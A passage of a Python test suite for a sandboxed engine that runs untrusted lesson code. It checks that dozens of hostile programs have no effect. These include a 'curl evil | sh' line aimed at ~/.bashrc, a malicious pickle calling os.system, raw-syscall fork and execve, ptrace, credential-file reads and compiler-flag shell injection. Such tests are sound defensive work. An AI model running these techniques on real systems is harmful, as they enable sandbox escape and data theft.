"""Hostile programs through the real engine: full Python, and still no effect outside, and a clear message.

Every program here runs the way a lesson from elsewhere would: in a fresh worker forked by the
zygote, contained by the operating system, its messages read by the client as untrusted input.
The checks are effects, not refusals: after each run, nothing in the target folder changed, no
listener accepted a connection, the decoy process (standing in for the user's other programs)
lives, no secret reached the result, the run ended in time, and the next run works.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from gradviz.core.request import Limits, RunRequest
from gradviz.core.result import RunResult
from gradviz.engine.client import EngineClient

ROOT = Path(__file__).resolve().parents[2]
SECRET = "HOSTILE-SECRET-" + os.urandom(8).hex()
os.environ["GRADVIZ_TEST_SECRET"] = SECRET  # in this process's environment: no worker may see it

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the contained engine is Linux's here")

#: Small limits so runaway programs end fast.
SMALL = Limits(max_seconds=8.0, max_memory_mb=512, max_output_chars=20_000)
#: For programs that hang inside one native call: the client kills the worker at the deadline.
HANG = Limits(max_seconds=1.0, max_memory_mb=512, max_output_chars=20_000)


@dataclass
class Arena:
    """What the programs aim at: a folder of files, two listeners, a decoy process, a secret."""

    dir: Path
    secret_file: Path
    tcp: socket.socket
    unix: socket.socket
    unix_path: Path
    decoy: subprocess.Popen
    accepted: list = field(default_factory=list)

    def fill(self, program: str) -> str:
        return (textwrap.dedent(program)
                .replace("@DIR@", str(self.dir))
                .replace("@SECRET_FILE@", str(self.secret_file))
                .replace("@PORT@", str(self.tcp.getsockname()[1]))
                .replace("@SOCK@", str(self.unix_path))
                .replace("@DECOY@", str(self.decoy.pid))
                .replace("@APP@", str(os.getpid()))
                .replace("@REPO@", str(ROOT)))

    def snapshot(self) -> dict:
        found = {}
        for path in sorted(self.dir.rglob("*")):
            st = path.lstat()
            found[str(path.relative_to(self.dir))] = (st.st_size, st.st_mtime_ns, st.st_mode)
        return found

    def connections(self) -> list[str]:
        for name, listener in (("tcp", self.tcp), ("unix", self.unix)):
            try:
                conn, _ = listener.accept()
                conn.close()
                self.accepted.append(name)
            except BlockingIOError:
                pass
        return self.accepted


def _evil_pickle(command: str) -> bytes:
    """A protocol-0 pickle that calls ``os.system(command)`` when loaded (written by hand, never loaded here)."""
    assert "\n" not in command and "\\" not in command
    return b"cposix\nsystem\n(V" + command.encode() + b"\ntR."


@pytest.fixture(scope="module")
def arena():
    base = Path(tempfile.mkdtemp(prefix="gradviz-hostile-"))
    (base / "existing.txt").write_text("keep me")
    secret = base / "secret.txt"
    secret.write_text(SECRET)
    shutil.copy(next(p for p in Path("/proc/self/maps").read_text().split() if "/libm.so" in p), base / "evil.so")
    (base / "evil.pt").write_bytes(_evil_pickle(f"touch {base}/pickle-ran"))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    unix_path = Path(tempfile.mkdtemp(prefix="gradviz-hostile-sock-")) / "s"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(unix_path))
    unix.listen(8)
    for listener in (tcp, unix):
        listener.setblocking(False)
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    yield Arena(base, secret, tcp, unix, unix_path, decoy)
    decoy.kill()
    decoy.wait()
    tcp.close()
    unix.close()
    shutil.rmtree(base, ignore_errors=True)
    shutil.rmtree(unix_path.parent, ignore_errors=True)


def run_hostile(engine: EngineClient, arena: Arena, program: str, limits: Limits = SMALL) -> RunResult:
    """Run ``program`` (its @NAMES@ filled in) and check that nothing happened outside the engine."""
    before = arena.snapshot()
    started = time.monotonic()
    result = engine.run(RunRequest(arena.fill(program), limits=limits), trusted=False)
    took = time.monotonic() - started
    # Ending in time is one of the effects checked (a program must not outlive its deadline); the
    # bound leaves 6 s over the deadline for the kill and a loaded machine.
    assert took < limits.max_seconds + 6, f"the run took {took:.1f} s"
    assert arena.snapshot() == before, "the program changed the target folder"
    assert arena.connections() == [], "a listener accepted a connection"
    assert arena.decoy.poll() is None, "the decoy process was killed"
    text = json.dumps([result.stdout, result.stderr, result.error and result.error.message,
                       result.error and result.error.hint, [s.stdout for s in result.statements]])
    assert SECRET not in text, "a secret reached the result"
    assert len(result.stdout) <= limits.max_output_chars * 2
    return result


def said(result: RunResult, *words: str) -> None:
    """The run failed with a message naming what went wrong (each of ``words``, any case)."""
    assert result.error is not None, f"no error; stdout: {result.stdout[:300]!r}"
    text = f"{result.error.type} {result.error.message} {result.error.hint or ''}".lower()
    for word in words:
        assert word.lower() in text, (word, result.error)
    assert result.error.line is None or result.error.line >= 1


# (id, program, words the error must contain; None: the program must finish without an error and
# print "blocked" for each attempt it catches)
FILES = [
    ("write_file", "open('@DIR@/pwned', 'w').write('x')", ["PermissionError"]),
    ("pathlib_write", "import pathlib\npathlib.Path('@DIR@', 'pwned').write_text('x')", ["PermissionError"]),
    ("append_existing", "open('@DIR@/existing.txt', 'a').write('more')", ["PermissionError"]),
    ("mkdir", "import os\nos.mkdir('@DIR@/newdir')", ["PermissionError"]),
    ("remove", "import os\nos.remove('@DIR@/existing.txt')", ["PermissionError"]),
    ("rename", "import os\nos.rename('@DIR@/existing.txt', '@DIR@/moved.txt')", ["PermissionError"]),
    ("rmtree", "import shutil\nshutil.rmtree('@DIR@')", ["PermissionError"]),
    ("symlink", "import os\nos.symlink('/etc/passwd', '@DIR@/link')", ["PermissionError"]),
    ("hardlink", "import os\nos.link('@DIR@/existing.txt', '@DIR@/hard')", ["PermissionError"]),
    ("truncate", "import os\nos.truncate('@DIR@/existing.txt', 0)", ["PermissionError"]),
    ("chmod", "import os\nos.chmod('@DIR@/existing.txt', 0o777)", ["PermissionError"]),
    ("utime", "import os\nos.utime('@DIR@/existing.txt', (0, 0))", ["PermissionError"]),
    ("mkfifo", "import os\nos.mkfifo('@DIR@/fifo')", ["PermissionError"]),
    ("tempfile", "import tempfile\ntempfile.NamedTemporaryFile(dir='@DIR@')", ["Error"]),
    ("tempfile_default", "import tempfile\nprint(tempfile.mkstemp())", ["PermissionError"]),
    ("torch_save", "import torch\ntorch.save(torch.ones(3), '@DIR@/t.pt')", ["Error"]),
    ("numpy_save", "import numpy as np\nnp.save('@DIR@/a.npy', np.ones(3))", ["PermissionError"]),
    ("sqlite", "import sqlite3\nsqlite3.connect('@DIR@/db.sqlite').execute('create table t(x)')", ["unable to open"]),
    ("logging_file", "import logging\nlogging.basicConfig(filename='@DIR@/log.txt')\nlogging.warning('x')",
     ["PermissionError"]),
    ("home_rc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')", ["Error"]),
    ("proc_cwd_escape", "open('/proc/self/cwd/../pwned', 'w')", ["Error"]),
    ("proc_root_escape", "open('/proc/self/root@DIR@/pwned', 'w')", ["Error"]),
    ("proc_self_mem", "f = open('/proc/self/mem', 'r+b')\nf.seek(0x400000)\nf.write(b'x')", ["PermissionError"]),
    ("oom_score_adj", "open('/proc/self/oom_score_adj', 'w').write('-1000')", ["PermissionError"]),
]

SECRETS = [
    ("read_secret", "print(open('@SECRET_FILE@').read())", ["PermissionError"]),
    ("list_target", "import os\nprint(os.listdir('@DIR@'))", ["PermissionError"]),
    ("list_home", "import os\nprint(os.listdir(os.path.expanduser('~')))", ["Error"]),
    ("read_repo", "print(open('@REPO@/pyproject.toml').read())", ["PermissionError"]),
    ("read_app_environ", "print(open('/proc/@APP@/environ', 'rb').read())", ["Error"]),
    ("read_app_cmdline", "print(open('/proc/@APP@/cmdline', 'rb').read())", ["Error"]),
    ("read_app_mem", "f = open('/proc/@DECOY@/mem', 'rb')\nprint(f.read(16))", ["Error"]),
    ("read_parent_environ", "import os\nprint(open(f'/proc/{os.getppid()}/environ', 'rb').read())", ["Error"]),
    ("read_shadow", "print(open('/etc/shadow').read())", ["Error"]),
    ("read_passwd", "print(open('/etc/passwd').read())", ["PermissionError"]),
]

PROCESSES = [
    ("os_system", "import os\nprint('status', os.system('touch @DIR@/m1'))", None),
    ("subprocess_run", "import subprocess\nsubprocess.run(['touch', '@DIR@/m2'])", ["PermissionError"]),
    ("subprocess_shell", "import subprocess\nsubprocess.Popen('touch @DIR@/m3', shell=True)", ["PermissionError"]),
    ("os_popen", "import os\nprint(os.popen('touch @DIR@/m4').read())", ["PermissionError"]),
    ("execv", "import os\nos.execv('/usr/bin/touch', ['touch', '@DIR@/m5'])", ["PermissionError"]),
    ("fork", "import os\npid = os.fork()\nif pid == 0:\n    open('@DIR@/m6', 'w')\n    os._exit(0)",
     ["PermissionError"]),
    ("posix_spawn", "import os\nos.posix_spawn('/usr/bin/touch', ['touch', '@DIR@/m7'], {})", ["PermissionError"]),
    ("multiprocessing", "import multiprocessing as mp\np = mp.Process(target=print)\np.start()", ["Error"]),
    ("pty_spawn", "import pty\npty.spawn(['/usr/bin/touch', '@DIR@/m8'])", ["Error"]),
    ("ctypes_system", "import ctypes\nprint('status', ctypes.CDLL(None).system(b'touch @DIR@/m9'))", None),
    ("ctypes_execve", """\
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        argv = (ctypes.c_char_p * 3)(b'touch', b'@DIR@/m10', None)
        print('execve', libc.syscall(59, b'/usr/bin/touch', argv, None), ctypes.get_errno())
        """, None),
    ("ctypes_raw_fork", """\
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.syscall(57)
        if pid == 0:
            os._exit(0)
        print('fork', pid, ctypes.get_errno())
        """, None),
    ("ctypes_clone_process", """\
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.syscall(56, 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        print('clone', pid, ctypes.get_errno())
        """, None),
    ("kill_decoy", "import os, signal\nos.kill(@DECOY@, signal.SIGKILL)", ["PermissionError"]),
    ("kill_app", "import os\nos.kill(@APP@, 0)", ["PermissionError"]),
    ("kill_parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", ["PermissionError"]),
    ("ptrace_decoy", """\
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        print('ptrace', libc.ptrace(16, @DECOY@, None, None), ctypes.get_errno())
        """, None),
    ("process_vm_readv", """\
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
        remote = (ctypes.c_void_p * 2)(0x400000, 64)
        print('vm_readv', libc.process_vm_readv(@DECOY@, local, 1, remote, 1, 0), ctypes.get_errno())
        """, None),
]

NETWORK = [
    ("tcp_connect", "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2)", ["PermissionError"]),
    ("unix_connect", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@SOCK@')", ["PermissionError"]),
    ("udp_send", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))",
     ["PermissionError"]),
    ("socketpair", "import socket\nsocket.socketpair()", ["PermissionError"]),
    ("urllib", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=2)", ["Error"]),
    ("hub_download", "import torch\ntorch.hub.load_state_dict_from_url('http://127.0.0.1:@PORT@/w.pt')", ["Error"]),
    ("dns", "import socket\nsocket.getaddrinfo('example.com', 80)", ["Error"]),
]

# torch.compile: under gradviz's recording mode dynamo leaves the program's frames to run eagerly (the
# same numbers); where it does compile, inductor's compiler is refused. Either way: no effect.
COMPILERS = [
    ("torch_compile", "import torch\nf = torch.compile(lambda x: x * 2)\nprint(f(torch.ones(3)))", []),
    ("inductor_wrapper", """\
        import torch
        import torch._inductor.config as config
        config.cpp.cxx = ("g++", "-wrapper", "/bin/sh,-c,touch @DIR@/m11")
        print(torch.compile(lambda x: x.sin() * 2)(torch.ones(3)))
        """, []),
    ("module_compile_route", """\
        import torch
        import torch.nn as nn
        class Net(nn.Module):
            compile = 0
            def __init__(self):
                super().__init__()
                self.lin = nn.Linear(2, 2)
            def forward(self, x):
                return self.lin(x)
            def go(self):
                super().compile(options={"cpp.cxx": ("g++", "-wrapper", "/bin/sh,-c,touch @DIR@/m12")})
                return self(torch.ones(2))
        print(Net().go())
        """, []),
    ("parameterdict_route", """\
        import torch
        import torch.nn as nn
        import torch._inductor.config as config
        config.cpp.cxx = ("g++", "-wrapper", "/bin/sh,-c,touch @DIR@/m14")
        holder = nn.ParameterDict()
        holder["w"] = nn.Parameter(torch.ones(2))
        compile_module = getattr(nn.Linear(2, 2), "compile")
        compile_module()
        print(nn.Linear(2, 2)(holder["w"]))
        """, []),
    ("module_hook_escape", """\
        import os
        import torch.nn as nn
        import torch
        lin = nn.Linear(2, 2)
        lin.register_forward_hook(lambda module, inputs, output: print("hook", os.system("touch @DIR@/m15")))
        lin.register_full_backward_hook(lambda module, gin, gout: print("hook", os.system("touch @DIR@/m16")))
        lin(torch.ones(1, 2, requires_grad=True)).sum().backward()
        print("status", os.system("true"))
        """, None),
    ("copyreg_newobj", """\
        import copyreg, subprocess
        p = copyreg.__newobj__(subprocess.Popen)
        p.__init__(['touch', '@DIR@/m17'])
        """, ["PermissionError"]),
    ("backward_cls", """\
        import os
        import torch
        class Double(torch.autograd.Function):
            @staticmethod
            def forward(ctx, x):
                return x * 2
            @staticmethod
            def backward(ctx, g):
                os.system("touch @DIR@/m18")
                return g * 2
        x = torch.ones(2, requires_grad=True)
        Double.apply(x).sum().backward()
        node = Double._backward_cls()
        print("status", os.system("true"), x.grad.tolist())
        """, None),
    ("cpp_extension", """\
        from torch.utils.cpp_extension import load_inline
        load_inline(name='evil', cpp_sources='int f() { return system("touch @DIR@/m13"); }', functions=['f'])
        """, ["Error"]),
    ("load_library", "import torch\ntorch.ops.load_library('@DIR@/evil.so')", ["Error"]),
    ("ctypes_cdll", "import ctypes\nctypes.CDLL('@DIR@/evil.so')", ["OSError"]),
]

PICKLES = [
    ("pickle_loads", "import pickle\nprint('status', pickle.loads(EVIL))", None),
    # The payload runs as the first object unpickled (its shell refused); torch then finds no magic number.
    ("torch_load_unsafe", "import io, torch\ntorch.load(io.BytesIO(EVIL), weights_only=False)", ["magic number"]),
    ("torch_load_default", "import io, torch\ntorch.load(io.BytesIO(EVIL))", ["weights_only"]),
    ("torch_load_file", "import torch\ntorch.load('@DIR@/evil.pt', weights_only=False)", ["PermissionError"]),
]

# Each prints "blocked" for what it caught; the run itself must end with a clear error or cleanly.
CASES = FILES + SECRETS + PROCESSES + NETWORK + COMPILERS + PICKLES


def _with_evil(program: str, arena: Arena) -> str:
    if "EVIL" not in program:
        return program
    return f"EVIL = {_evil_pickle(f'touch {arena.dir}/pickle-ran')!r}\n" + textwrap.dedent(program)


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name, program, words", CASES, ids=[c[0] for c in CASES])
def test_hostile_program_has_no_effect(engine, arena, name, program, words):
    result = run_hostile(engine, arena, _with_evil(program, arena))
    if words == []:
        return  # any outcome: only the effects (checked above) matter
    if words is None:
        # The call reported failure instead of raising: the program went on and printed what it got,
        # -1 for a refused system call, a non-zero status for system() that could not start a shell.
        assert result.error is None, result.error
        for line in result.stdout.splitlines():
            label, value = line.split()[0], int(line.split()[1])
            assert value == -1 or (label in ("status", "hook") and value != 0), result.stdout
    else:
        said(result, *words)


def test_there_are_at_least_sixty_hostile_programs():
    assert len(CASES) + len(CHANNEL) + len(HANGS) + len(MEMORY) >= 60


def test_torch_still_works_after_every_refusal(engine, arena):
    """A program that is refused everything still computes: forward, backward, threads."""
    result = run_hostile(engine, arena, """\
        import os, threading, torch
        try:
            open('@DIR@/x', 'w')
        except PermissionError:
            print('blocked')
        torch.set_num_threads(2)
        a = torch.randn(300, 300, requires_grad=True)
        (a @ a).sum().backward()
        out = []
        t = threading.Thread(target=lambda: out.append(float((a * 2).sum())))
        t.start()
        t.join()
        print(a.grad.shape, len(out), len(os.listdir('/proc/self/task')) >= 2)
        """)
    assert result.error is None and result.stdout == "blocked\ntorch.Size([300, 300]) 1 True\n"


# --- the protocol channel ---------------------------------------------------------------------------
FORGED_RESULT = ('{"type":"result","result":{"shared":{},"data":{"stdout":"forged","graph":{"nodes":[],'
                 '"edges":[{"src":"a","dst":"b"}],"roots":[]}}},"sent_graphs":[]}')
CHANNEL = [
    ("forged_result", f"import os\nos.write(3, {FORGED_RESULT!r}.encode() + b'\\n')\nwhile True:\n    pass",
     ["could not read"]),
    ("forged_progress", "import os\nos.write(3, b'{\"type\":\"progress\",\"statement\":{\"line\":99,\"end_line\":99,"
     "\"ok\":true}}\\n')\nprint('x')", ["could not read"]),
    ("forged_ready", "import os\nos.write(3, b'{\"type\":\"ready\",\"torch\":\"0\"}\\n')", ["could not read"]),
    ("garbage", "import os\nos.write(3, b'\\xff\\xfe not json\\n')", ["could not read"]),
    ("deep_json", "import os\nos.write(3, b'[' * 100000 + b'\\n')", ["could not read"]),
    ("huge_line", "import os\nfor i in range(200):\n    os.write(3, b'x' * (1 << 20))", ["could not read"]),
    # 18 MB, under the size limit, that would decode to ~1 GB of lists in the app.
    ("list_bomb", "import os\nos.write(3, b'{\"type\":\"result\",\"result\":[' + b'[[0]],' * 3_000_000 + b'0]}\\n')"
     "\nwhile True:\n    pass", ["could not read"]),
    ("close_channel", "import os\nos.close(3)\nprint('closed')", ["stopped unexpectedly"]),
    ("dup_over_channel", "import os\nos.dup2(1, 3)\nprint('swapped')", ["stopped unexpectedly"]),
    ("unknown_type", "import os\nos.write(3, b'{\"type\":\"shell\",\"cmd\":\"id\"}\\n')", ["could not read"]),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name, program, words", CHANNEL, ids=[c[0] for c in CHANNEL])
def test_writing_into_the_engine_channel_is_refused_and_the_next_run_works(engine, arena, name, program, words):
    result = run_hostile(engine, arena, program, HANG if "while True" in program else SMALL)
    said(result, *words)
    assert result.stdout != "forged" and "forged" not in [s.stdout for s in result.statements]
    assert engine.run(RunRequest("print(1 + 1)")).stdout == "2\n"


def test_results_dense_in_lists_or_printed_brackets_still_arrive(engine, arena):
    """The bound on lists a message may hold (a list bomb) leaves real results alone: a column of
    100,000 values is 100,001 lists, and what a program prints may be all brackets."""
    result = run_hostile(engine, arena, """\
        import torch
        col = torch.arange(100000.0).reshape(100000, 1, 1)
        print("[" * 19000)
        """)
    assert result.error is None and result.stdout == "[" * 19000 + "\n"
    col = result.variable("col").value
    assert col.shape == (100000, 1, 1) and col.data[99999] == [[99999.0]]


def test_output_written_around_the_protocol_neither_corrupts_nor_floods(engine, arena):
    """fd 1 and 2 go to a drained pipe the client bounds; sys.stdout may be replaced freely."""
    result = run_hostile(engine, arena, """\
        import io, os, sys
        for i in range(100):
            os.write(1, b'x' * (1 << 20))
            os.write(2, b'y' * (1 << 20))
        sys.stdout = io.StringIO()
        print('into the program's own buffer')
        sys.stdout = sys.__stdout__
        print('back')
        """.replace("program's", "programs"))
    assert result.error is None and result.stdout == "back\n"


def test_a_lone_surrogate_in_the_output_does_not_lose_the_result(engine, arena):
    result = run_hostile(engine, arena, "print('a\\ud800b')\nimport torch\nx = torch.ones(2, requires_grad=True)\n"
                                        "x.sum().backward()\n")
    assert result.error is None and result.stdout == "a\ufffdb\n"
    assert result.variable("x").grad.data == [1.0, 1.0]


# --- native calls that never return, and programs that swallow the stop ------------------------------
HANGS = [
    ("sleep", "import time\ntime.sleep(1000)"),
    ("isdisjoint", "set().isdisjoint(range(10**15))"),
    ("huge_modpow", "pow(10**30000, 10**30000, 10**30000 + 1)"),
    ("huge_conv2d", "import torch\nimport torch.nn.functional as F\n"
                    "F.conv2d(torch.ones(1, 8, 1000, 1000), torch.ones(8, 8, 51, 51))"),
    ("matrix_power", "import torch\ntorch.linalg.matrix_power(torch.eye(1500), 10**9)"),
    ("event_wait", "import threading\nthreading.Event().wait()"),
    ("swallow_stop", "while True:\n    try:\n        while True:\n            pass\n"
                     "    except BaseException:\n        pass"),
    ("ignore_sigint", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name, program", HANGS, ids=[c[0] for c in HANGS])
def test_a_run_past_its_deadline_is_stopped_even_inside_a_native_call(engine, arena, name, program):
    result = run_hostile(engine, arena, program, HANG)
    said(result, "time limit")
    assert result.error.limit == "max_seconds"


def test_cancel_stops_a_program_that_ignores_it(engine, arena):
    """Cancel once SIGINT is ignored (line 2 done): the client kills what does not listen.

    Not a timer: one that fired before line 2 ran would cancel a program still listening. A
    program the cancel failed to stop would run to its 60 s deadline and end LimitExceeded."""
    def cancel_once_ignored(info):
        if info["line"] == 2:
            engine.cancel()

    result = engine.run(RunRequest(arena.fill(HANGS[-1][1]), limits=Limits(max_seconds=60)),
                        on_progress=cancel_once_ignored)
    assert result.error.type == "Cancelled", result.error


# --- memory and size ----------------------------------------------------------------------------
MEMORY = [
    ("huge_string", "s = 'a' * 10**10"),
    # 1.6e9 elements pass the tensor size limit when it is raised: 6.4 GB hit the memory limit.
    ("huge_tensor", "import torch\nx = torch.zeros(40000, 40000)"),
    ("huge_bytearray", "b = bytearray(10**11)"),
    ("numpy_huge", "import numpy as np\na = np.ones((10**5, 10**5))"),
    ("growing_list", "import torch\nkeep = []\nwhile True:\n    keep.append(torch.ones(10**7))"),
    ("growing_graph", "import torch\nx = torch.ones(10**5, requires_grad=True)\ny = x\n"
                      "while True:\n    y = (y * 1.0001).sin()"),
    ("string_doubling", "s = 'ab'\nwhile True:\n    s = s + s"),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name, program", MEMORY, ids=[c[0] for c in MEMORY])
def test_memory_is_bounded_with_a_clear_message(engine, arena, name, program):
    result = run_hostile(engine, arena, program, Limits(max_seconds=30, max_memory_mb=400, max_elements=2_000_000_000))
    said(result, "memory")
    assert engine.run(RunRequest("print(2 * 21)")).stdout == "42\n"


def test_a_huge_tensor_is_refused_before_it_allocates(engine, arena):
    result = run_hostile(engine, arena, "import torch\nx = torch.zeros(10**6, 10**6)", Limits(max_seconds=30))
    said(result, "tensor size limit (250,000,000 elements in one tensor)")


def test_output_floods_stop_at_the_output_limit(engine, arena):
    result = run_hostile(engine, arena, "while True:\n    print('x' * 1000)")
    said(result, "output limit")
    assert len(result.stdout) <= SMALL.max_output_chars


def test_a_billion_character_string_printed_hits_a_limit(engine, arena):
    result = run_hostile(engine, arena, "print('a' * 10**9)", Limits(max_seconds=30, max_memory_mb=3000))
    said(result, "limit")


#: The app's side of one run, in a fresh process: peak RSS is a high-water mark of the whole
#: process, so measured inside pytest it would include whatever earlier tests peaked at (and a
#: growth past it would go unseen). Prints how much the peak grew over the run (kB), and writes
#: the result where argv[2] says.
APP_RECEIVING = """
import resource, sys
from gradviz.core.request import Limits, RunRequest
from gradviz.engine.client import EngineClient
client = EngineClient()
client.start()
assert client.wait_ready()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
result = client.run(RunRequest(sys.argv[1], limits=Limits(max_seconds=120, max_memory_mb=4096, max_result_mb=4)))
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
client.close()
with open(sys.argv[2], "w") as out:
    out.write(result.to_json())
print(grown)
"""


@pytest.mark.timeout(300)
def test_the_result_is_bounded_whatever_the_program(tmp_path):
    """5,000 parameters of 10,000 elements made a 559 MB result and a 3.65 GB app once: here 5,000
    variables whose values would each travel whole (10,000 elements) are summarised to fit, and
    the app that receives them grows by little."""
    program = textwrap.dedent("""\
        import torch
        for i in range(5_000):
            globals()[f"p{i}"] = torch.randn(10_000, requires_grad=True)
        loss = sum((globals()[f"p{i}"] ** 2).sum() for i in range(5_000))
        loss.backward()
        print(5_000)
        """)
    out = tmp_path / "result.json"
    done = subprocess.run([sys.executable, "-c", APP_RECEIVING, program, str(out)], capture_output=True, text=True,
                          cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=240)
    assert done.returncode == 0, done.stderr
    grown_mb = int(done.stdout) / 1024
    # 35-38 MB with the result summarised to 4 MB; a result let through whole grows it by gigabytes.
    assert grown_mb < 200, f"the app's process grew by {grown_mb:.0f} MB"
    result = RunResult.from_json(out.read_text())
    assert result.error is None and result.stdout == "5000\n"
    assert len(result.to_json()) <= 6 * 1024 * 1024  # the JSON of what came, shared values written out again
    assert any(note.startswith("The result was over the result limit (4 MB)") for note in result.notes)
    p0, p4999 = result.variable("p0"), result.variable("p4999")
    assert p0.value.stats is not None and p4999.value.stats is not None and p4999.grad.stats is not None


# --- crashes inside torch ------------------------------------------------------------------------
def test_a_crash_in_native_code_is_a_clear_message_and_the_next_run_works(engine, arena):
    result = run_hostile(engine, arena, "import ctypes\nctypes.string_at(1)")
    said(result, "stopped unexpectedly", "SIGSEGV")
    assert engine.run(RunRequest("print('fine')")).stdout == "fine\n"


def test_calling_grad_fn_nodes_and_optimizer_state_tricks_stay_inside(engine, arena):
    result = run_hostile(engine, arena, """\
        import torch
        x = torch.ones(3, requires_grad=True)
        y = (x * x).sum()
        print(list(map(lambda node: node(torch.ones(())), [y.grad_fn])))
        p = torch.nn.Parameter(torch.ones(1000))
        opt = torch.optim.Adam([p], fused=True)
        state = {"state": {0: {"step": torch.tensor(1.0), "exp_avg": torch.ones(1), "exp_avg_sq": torch.ones(1)}},
                 "param_groups": opt.state_dict()["param_groups"]}
        opt.load_state_dict(state)
        p.grad = torch.ones(1000)
        opt.step()
        """)
    # Calling a node is ordinary torch (SumBackward0 of ones: ones).
    assert result.stdout.startswith("[tensor([1., 1., 1.])]")
    # The fused kernel then writes past the short state: undefined behaviour, which may raise, crash
    # the engine, hang until the time limit or go unnoticed (it did each). Whatever it does stays
    # in that run's process.
    assert result.error is None or result.error.type in ("RuntimeError", "WorkerCrashed", "IndexError") \
        or result.error.limit == "max_seconds"
    assert engine.run(RunRequest("print('fine')")).stdout == "fine\n"


# --- nothing of one run reaches the next --------------------------------------------------------------
def test_the_next_lesson_cannot_read_the_previous_ones_memory_or_state(engine, arena):
    marker = "PREVIOUS-LESSON-" + os.urandom(6).hex()
    first = run_hostile(engine, arena, f"""\
        import torch, builtins
        text = {marker!r} * 100000
        t = torch.frombuffer(bytearray(text.encode()), dtype=torch.uint8).clone()
        builtins.LEFT_BEHIND = text
        torch.randn = lambda *a, **k: torch.zeros(*a)
        del t, text
        """)
    assert first.error is None
    second = run_hostile(engine, arena, f"""\
        import torch, builtins
        junk = torch.empty(50_000_000, dtype=torch.uint8)
        print(bytes(junk.numpy()).find({marker!r}.encode()), hasattr(builtins, 'LEFT_BEHIND'))
        torch.manual_seed(0)
        print(torch.randn(2).abs().sum() > 0)
        """)
    assert second.error is None and second.stdout == "-1 False\ntensor(True)\n"


def test_the_engine_sees_none_of_the_users_environment(engine, arena):
    result = run_hostile(engine, arena, """\
        import os
        print(sorted(os.environ))
        print(open('/proc/self/environ', 'rb').read().count(b'GRADVIZ_TEST_SECRET'))
        """)
    assert result.error is None
    names, count = result.stdout.splitlines()
    assert "GRADVIZ_TEST_SECRET" not in names and "HOME" not in names and "USER" not in names
    assert count == "0"


# --- malformed lesson files ---------------------------------------------------------------------------
MALFORMED = [
    ("binary.gradviz", os.urandom(2000)),
    ("nested.gradviz", b"[" * 200_000),
    ("wrong_types.gradviz", b'{"format": "gradviz-session", "version": 2, "program": 42}'),
    ("duplicate.gradviz", b'{"format": "gradviz-session", "format": "x", "program": ""}'),
    ("nan.gradviz", b'{"format": "gradviz-session", "version": 2, "program": "", "seed": NaN}'),
    ("nul.py", b"import torch\x00\nprint(1)\n"),
    ("latin1.py", "x = 'caf\xe9'\n".encode("latin-1")),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("name, data", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_lesson_files_are_refused_in_one_line(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    done = subprocess.run([sys.executable, "-m", "gradviz", "inspect", str(path)], capture_output=True, text=True,
                          cwd=ROOT, timeout=100, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 2, done
    assert done.stdout == "" and done.stderr.startswith("gradviz inspect: ") and done.stderr.count("\n") == 1
    assert path.read_bytes() == data


# --- no worker outlives the app or the command ----------------------------------------------------------
def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            ppid = int(stat[stat.rindex(")") + 2:].split()[1])
            children.setdefault(ppid, []).append(int(entry))
    found, stack = set(), [pid]
    while stack:
        for child in children.get(stack.pop(), []):
            if child not in found:
                found.add(child)
                stack.append(child)
    return found


def _alive(pids: set[int]) -> set[int]:
    alive = set()
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z":
            alive.add(pid)
    return alive


def _cpu_seconds(pid: int) -> float:
    """User and system CPU time of ``pid`` so far (0 once it is gone)."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _contained(pid: int) -> bool:
    """Whether ``pid`` runs under a seccomp filter: an engine worker past contain()."""
    try:
        return "Seccomp:\t2" in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


def _running_a_program(pids: set[int]) -> bool:
    """Whether one of ``pids`` is a contained worker busy on the CPU: the endless program runs.

    Work done, not a pause that guesses how long start-up takes: a worker imports torch before
    it is contained, and a contained worker that waits for a run uses no CPU."""
